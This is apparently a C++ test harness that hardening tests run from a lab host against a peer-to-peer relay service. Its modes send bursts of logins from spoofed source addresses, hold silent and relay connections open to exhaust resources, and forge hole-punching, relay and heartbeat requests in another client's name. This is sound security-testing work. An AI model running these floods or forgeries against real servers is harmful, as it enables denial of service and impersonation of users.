// What the hardening tests throw at the real programs, from a lab host:
//
//   quillfen_attack logins --server IP --from A.B --count N
//       N logins (to 10004 and 10001) in one burst, each from its own address
//       A.B.x.y; the host must route A.B.0.0/16 as local. Prints "SENT N".
//   quillfen_attack handshakes --to IP --count N --reopen-ms MS --seconds S
//       N UDT connections to IP:31000 that never send their identity, all
//       closed and opened again every MS, for S seconds. Prints "HELD n".
//   quillfen_attack relay --server IP --count N --seconds S
//       N idle UDT connections to the relay port, held for S seconds.
//       Prints "RELAY n" with the number connected.
//   quillfen_attack forge --server IP --from A --as ID --target ID
//                         [--login 1] [--relay 1] [--heartbeats N]
//       From address A in the name of ID: a hole-punching request to the
//       target, with --relay 1 a relay request to it on a UDT connection,
//       then N heartbeats 250 ms apart. With --login 1, ID logs in from A
//       first. Prints "FORGED".
//
// Traffic goes only where the test says, bounded by the counts given.

#include "bench/Sourced_Socket.h"
#include "foundation/ORV_Ports.h"
#include "foundation/net/Ipv4_Address.h"
#include "foundation/Relay_Records.h"
#include "foundation/Server_Records.h"
#include "foundation/platform/Guid.h"

#include <udt.h>

#include <arpa/inet.h>

#include <chrono>
#include <iostream>
#include <map>
#include <string>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

std::map<std::string, std::string> g_args;

std::string arg(const std::string& name)
{
    const auto found = g_args.find(name);
    return found == g_args.end() ? std::string() : found->second;
}

int int_arg(const std::string& name)
{
    return std::stoi(arg(name));
}

sockaddr_in server_port(int port)
{
    return Ipv4_Address::make(arg("--server"), port);
}

// A login of `identity` from `ip`, both copies, as a client sends it.
void log_in(Sourced_Socket& sock, const std::string& identity, const std::string& ip)
{
    const auto record = pack_login_record(new_header(ORV::MSG_ONLINE), identity, "storm", "02:00:00:00:00:09", ip, "");
    const Message_Block block = to_block(record.value());
    const in_addr from = Ipv4_Address::make(ip, 0).sin_addr;
    sock.send(from, block, server_port(ORV_Ports::SERVER_ASSIST));
    sock.send(from, block, server_port(ORV_Ports::SERVER_LOGIN));
}

int logins()
{
    const int count = int_arg("--count");
    Sourced_Socket sock(64 * 1024 * 1024);
    for (int i = 0; i < count; ++i)
        log_in(sock, new_guid_string(), arg("--from") + "." + std::to_string(i / 250) + "." + std::to_string(i % 250 + 2));
    std::cout << "SENT " << count << std::endl;
    return 0;
}

// `count` UDT connections to `to` that send nothing; the number connected.
std::vector<int> open_silent(const sockaddr_in& to, int count)
{
    std::vector<int> sockets;
    for (int i = 0; i < count; ++i) {
        const int sock = UDT::socket(AF_INET, SOCK_STREAM, 0);
        if (UDT::connect(sock, reinterpret_cast<const sockaddr*>(&to), sizeof to) == UDT::ERROR) {
            UDT::close(sock);
            continue;
        }
        sockets.push_back(sock);
    }
    return sockets;
}

void close_all(std::vector<int>& sockets)
{
    for (int sock : sockets)
        UDT::close(sock);
    sockets.clear();
}

int handshakes()
{
    const sockaddr_in to = Ipv4_Address::make(arg("--to"), ORV_Ports::PEER_LISTEN);
    const auto end = Clock::now() + std::chrono::seconds(int_arg("--seconds"));
    const auto period = std::chrono::milliseconds(int_arg("--reopen-ms"));
    std::vector<int> held;
    while (Clock::now() < end) {
        close_all(held);
        held = open_silent(to, int_arg("--count"));
        std::cout << "HELD " << held.size() << std::endl;
        std::this_thread::sleep_until(std::min(end, Clock::now() + period));
    }
    close_all(held);
    return 0;
}

int relay()
{
    std::vector<int> held = open_silent(server_port(ORV_Ports::SERVER_RELAY), int_arg("--count"));
    std::cout << "RELAY " << held.size() << std::endl;
    std::this_thread::sleep_for(std::chrono::seconds(int_arg("--seconds")));
    close_all(held);
    return 0;
}

// A relay request on its own UDT connection, left open a moment for the
// server to read it.
void send_relay_request(const Message_Block& block)
{
    const sockaddr_in to = server_port(ORV_Ports::SERVER_RELAY);
    const int sock = UDT::socket(AF_INET, SOCK_STREAM, 0);
    if (UDT::connect(sock, reinterpret_cast<const sockaddr*>(&to), sizeof to) != UDT::ERROR) {
        for (int sent = 0, n = 0; sent < ORV::BLOCK_SIZE; sent += n) {
            if ((n = UDT::send(sock, block.data() + sent, ORV::BLOCK_SIZE - sent, 0)) <= 0)
                break;
        }
        std::this_thread::sleep_for(std::chrono::seconds(1));
    }
    UDT::close(sock);
}

int forge()
{
    Sourced_Socket sock(1024 * 1024);
    const in_addr from = Ipv4_Address::make(arg("--from"), 0).sin_addr;
    const std::string id = arg("--as");
    if (arg("--login") == "1") {
        log_in(sock, id, arg("--from"));
        std::this_thread::sleep_for(std::chrono::milliseconds(500));
    }
    const auto punch = pack_p2p_request(new_header(ORV::MSG_P2P_REQUEST), id, arg("--target"), ORV::STEP_REQUEST,
                                        sockaddr_in{}, sockaddr_in{});
    sock.send(from, to_block(punch.value()), server_port(ORV_Ports::SERVER_LOGIN));
    if (arg("--relay") == "1")
        send_relay_request(to_block(
            pack_csc_request(new_header(ORV::MSG_CSC_REQUEST), id, arg("--target"), ORV::STEP_REQUEST, 0, 0).value()));
    const int heartbeats = arg("--heartbeats").empty() ? 0 : int_arg("--heartbeats");
    for (int i = 0; i < heartbeats; ++i) {
        sock.send(from, to_block(pack_heartbeat(new_header(ORV::MSG_HEARTBEAT), id).value()),
                  server_port(ORV_Ports::SERVER_HEARTBEAT));
        std::this_thread::sleep_for(std::chrono::milliseconds(250));
    }
    std::cout << "FORGED" << std::endl;
    return 0;
}

} // namespace

int main(int argc, char** argv)
{
    if (argc < 2) {
        std::cerr << "usage: quillfen_attack logins|handshakes|relay|forge --option value ...\n";
        return 2;
    }
    for (int i = 2; i + 1 < argc; i += 2)
        g_args[argv[i]] = argv[i + 1];
    UDT::startup();
    const std::string mode = argv[1];
    if (mode == "logins")
        return logins();
    if (mode == "handshakes")
        return handshakes();
    if (mode == "relay")
        return relay();
    if (mode == "forge")
        return forge();
    std::cerr << "unknown mode " << mode << "\n";
    return 2;
}
